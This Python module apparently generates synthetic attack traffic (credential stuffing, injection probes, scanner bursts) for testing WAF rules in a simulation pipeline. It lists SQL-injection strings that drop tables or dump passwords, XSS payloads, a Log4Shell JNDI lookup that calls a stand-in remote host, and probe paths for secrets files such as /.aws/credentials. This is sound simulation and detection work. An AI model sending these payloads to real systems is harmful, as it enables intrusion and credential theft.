"""Hostile traffic: the credential-stuffing burst, SQL-injection probes and vulnerability scanners.

Owns who attacks, when, how fast and with which payloads. Requests carry :class:`Signal` values
describing what a WAF rule would find in them (SQLi tokens in a query argument, an XSS string in the
path, a Log4Shell lookup in a header); :mod:`pipeline.scenario.waf` decides what the web ACL does
with them. Payload strings are hostile on purpose (quotes, angle brackets, ``${jndi:...}``): every
writer must escape them correctly.
"""

from __future__ import annotations

from pipeline.scenario.traffic import HOUR_MS, Signal, Traffic, url_quote
from pipeline.scenario.world import API, DEFAULT, Behavior, Client, ClientFactory

STUFFING_START = (17, 10)
STUFFING_END = (17, 25)
STUFFING_IPS = 6
PROBE_IPS = 5
_SPOOFED_UA = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
)
SQLI = (
    "1' OR 1=1--",
    "1 UNION SELECT username,password FROM users--",
    "x' AND SLEEP(5)--",
    "1; DROP TABLE titles--",
    "' OR '1'='1",
    "1) UNION ALL SELECT NULL,version()--",
)
XSS = ('"><img src=x onerror=alert(2)>', "<script>alert(1)</script>")
LOG4J = "${jndi:ldap://198.51.100.77:1389/a}"
JAVA_SERIAL = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAAA"
_PROBE_PATHS = (
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/wp-admin/setup-config.php",
    "/phpmyadmin/index.php",
    "/server-status",
    "/actuator/env",
    "/config.json",
    "/backup.zip",
    "/.aws/credentials",
)
_SCANNER_UAS = (
    "Mozilla/5.0 zgrab/0.x",
    "curl/8.5.0",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    LOG4J,
)


def _at(tr: Traffic, hm: tuple[int, int]) -> int:
    return tr.day_start + hm[0] * HOUR_MS + hm[1] * 60_000


def credential_stuffing(tr: Traffic, clients: ClientFactory, scale: float) -> list[str]:
    """Six hosting-provider IPs POST /api/login hundreds of times a minute, 17:10-17:25; mostly 401."""
    rng = tr.rng
    per_minute = max(40, round(320 * scale))
    start, end = _at(tr, STUFFING_START), _at(tr, STUFFING_END)
    ips = []
    for i in range(STUFFING_IPS):
        ua = "python-requests/2.31.0" if i < 4 else "Go-http-client/2.0"
        client = clients.hosted(ua)
        ips.append(client.ip)
        rate = per_minute * (0.7 + 0.6 * rng.random()) / 60_000  # requests per ms for this bot
        t = start + rng.randrange(0, 20_000)
        while t < end - 2_000:
            ok = rng.random() < 0.04
            tr.add(
                t,
                client,
                "POST",
                "/api/login",
                API,
                ua=ua,
                status=200 if ok else 401,
                cache="Miss",
                obj=("application/json", 180 if ok else 64),
                body=rng.randrange(60, 110),
                kind="stuffing",
                headers=(("content-type", "application/json"),),
            )
            t += 1 + int(rng.expovariate(rate))
    return ips


def _sqli_target(tr: Traffic) -> tuple[str, Behavior, str]:
    """A URI to probe: probes walk the catalogue, so most URIs are distinct."""
    rng, titles = tr.rng, tr.catalogue.titles
    r = rng.random()
    if r < 0.3:
        return f"/api/titles/{rng.choice(titles)[1]}", API, "id"
    if r < 0.5:
        return "/api/catalog", API, rng.choice(("genre", "sort", "page"))
    if r < 0.7:
        return "/search", DEFAULT, "q"
    if r < 0.9:
        return f"/title/{rng.choice(titles)[0]}", DEFAULT, "ref"
    return "/api/comments", API, "title"


def sqli_probes(tr: Traffic, clients: ClientFactory, scale: float) -> list[str]:
    """A handful of IPs walk many URIs with injection strings in a query argument, 02:10-04:40.

    The origin answers 400/403/404. A fifth of the probes try XSS in a query argument instead, which
    the Common rule set blocks.
    """
    rng = tr.rng
    hosts = [clients.hosted(_SPOOFED_UA) for _ in range(3)] + [
        clients.viewer("NL", _SPOOFED_UA),
        clients.viewer("BR", _SPOOFED_UA),
    ]
    start, span = _at(tr, (2, 10)), 150 * 60_000
    for _ in range(max(60, round(1_200 * scale))):
        client = hosts[rng.randrange(PROBE_IPS)]
        path, behavior, field = _sqli_target(tr)
        status = rng.choices((400, 403, 404), (35, 25, 40))[0]
        ctype = "application/json" if behavior.family == "api" else "text/html"
        if rng.random() < 0.2:
            payload = rng.choice(XSS)
            # a script tag has no spaces and goes out raw; the attribute payload must be encoded
            query = f"{field}={payload}" if " " not in payload else f"{field}={url_quote(payload)}"
            signal = Signal("xss_args", (payload,), field)
        else:
            payload = rng.choice(SQLI)
            query = f"{field}={url_quote(payload)}"
            signal = Signal("sqli_args", tuple(payload.replace("=", " = ").split()), field)
        tr.add(
            start + rng.randrange(span),
            client,
            "GET",
            path,
            behavior,
            query=query,
            status=status,
            obj=(ctype, 0),
            cache="Miss",
            kind="probe",
            signals=(signal,),
        )
    return [c.ip for c in hosts]


def scanners(tr: Traffic, clients: ClientFactory, scale: float) -> list[str]:
    """Vulnerability scanners in short bursts through the day: Log4Shell and Java deserialisation
    headers (blocked by KnownBadInputs), XSS in the path (blocked by the Common rule set), and
    well-known files that do not exist (404)."""
    rng = tr.rng
    hosts = [clients.hosted(ua) for ua in _SCANNER_UAS]  # four scanners
    per_burst = max(10, round(60 * scale))
    for client in hosts:
        for _ in range(rng.randrange(2, 4)):
            t = tr.day_start + rng.randrange(23 * HOUR_MS)
            for _ in range(per_burst):
                t += rng.randrange(200, 2_000)
                _scan(tr, client, t)
    return [c.ip for c in hosts]


def _scan(tr: Traffic, client: Client, t: int) -> None:
    rng = tr.rng
    r = rng.random()
    signals: tuple[Signal, ...] = ()
    headers: tuple[tuple[str, str], ...] = ()
    path, behavior, status = rng.choice(_PROBE_PATHS), DEFAULT, 404
    if client.ua == LOG4J:
        signals = (Signal("log4j", (LOG4J,), "user-agent"),)
        path = rng.choice(("/", "/api/titles/10037", "/login"))
    elif r < 0.25:
        headers = (("x-api-version", LOG4J),)
        signals = (Signal("log4j", (LOG4J,), "x-api-version"),)
        path = rng.choice(("/", "/api/me", "/account"))
    elif r < 0.4:
        headers = (("x-session", JAVA_SERIAL),)
        signals = (Signal("javadeser", (JAVA_SERIAL[:16],), "x-session"),)
        path = rng.choice(("/", "/api/me"))
    elif r < 0.55:
        payload = rng.choice(XSS)
        path = "/search/" + (payload if " " not in payload else url_quote(payload))
        signals = (Signal("xss_uri", (payload,), ""),)
    behavior = API if path.startswith("/api/") else DEFAULT
    if path.startswith("/api/") and not signals:
        status = 401
    tr.add(
        t,
        client,
        "GET",
        path,
        behavior,
        status=status,
        obj=("text/html", 0),
        cache="Miss",
        kind="scanner",
        signals=signals,
        headers=headers,
    )
